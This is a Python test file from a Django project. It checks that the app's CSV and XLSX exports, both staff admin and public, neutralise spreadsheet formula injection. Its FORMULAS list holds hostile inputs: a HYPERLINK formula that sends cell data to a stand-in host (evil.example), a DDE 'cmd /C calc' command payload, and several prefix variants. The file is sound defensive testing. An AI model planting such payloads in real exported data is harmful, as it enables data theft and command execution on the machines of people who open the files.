"""No text of the register is calculated by whoever opens a table of it, staff or reader."""

import csv
import io

import pytest
from django.contrib import admin
from django.test import Client
from openpyxl import load_workbook

from tests.admin.test_every_url import make_person
from tests.conftest import forget
from tests.crawler import Browser
from tests.examples import fill_every_part
from tests.factories import make_edition
from visits.enums import State
from visits.models import Edition, ErrorReport, Generation, Visit
from visits.text.spreadsheets import BEGINNINGS

from . import hostile_register

pytestmark = pytest.mark.django_db

FORMULAS = (
    '=HYPERLINK("https://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=1\n=2",
)


@pytest.fixture
def register():
    """A record with everything that can hang on one, and every text of it a formula."""
    with pytest.MonkeyPatch.context() as patch:
        beginnings = {number: FORMULAS[number % len(FORMULAS)] for number in range(1000)}
        patch.setattr(hostile_register, "payload", lambda number, room=None: beginnings[number][:room])
        make_edition(State.PUBLISHED, fill=fill_every_part)
        for visit in Visit.objects.filter(editions=None):
            Edition.objects.create(visit=visit, title="Of a visit that another one names")
        ErrorReport.objects.create(text="What is wrong", source="A source", note="A note", language="en")
        hostile_register.overwrite_every_text()
        Generation.objects.update(n=Generation.current() + 1)
        forget()


def cells_of(content: bytes, path: str) -> list:
    """Every cell as a spreadsheet would take it: of a workbook with what kind it is."""
    if path.endswith(("xlsx", "xlsx/")):
        book = load_workbook(io.BytesIO(content))
        return [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
    return [cell for line in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in line]


def is_calculated(cell) -> bool:
    if isinstance(cell, str):
        return cell.startswith(BEGINNINGS)
    return cell.data_type == "f"


def test_no_table_for_spreadsheets_holds_a_formula(register):
    client = Client()
    client.force_login(make_person("superuser"))
    models = [model._meta.model_name for model in admin.site._registry if model._meta.app_label == "visits"]
    staff = [f"/admin/visits/{model}/export/{format}/" for model in models for format in ("csv", "xlsx")]
    staff += [f"/admin/visits/visit/table/{format}/" for format in ("csv", "xlsx")]
    staff += [f"/admin/visits/visit/{visit.pk}/history/?format=csv" for visit in Visit.objects.all()[:3]]
    public = [
        f"/{table}.{ending}" for table in ("visits", "findings") for ending in ("csv?flavour=spreadsheet", "xlsx")
    ]

    told = {path: cells_of(client.get(path).getvalue(), path) for path in staff}
    told |= {path: cells_of(Browser().get(path).content, path) for path in public}

    assert {path for path, cells in told.items() if any(map(is_calculated, cells))} == set()
    texts = [cell if isinstance(cell, str) else str(cell.value) for cells in told.values() for cell in cells]
    assert {formula for formula in FORMULAS if any(formula.strip() in text for text in texts)} == set(FORMULAS)
    assert [path for path, cells in told.items() if not cells] == []
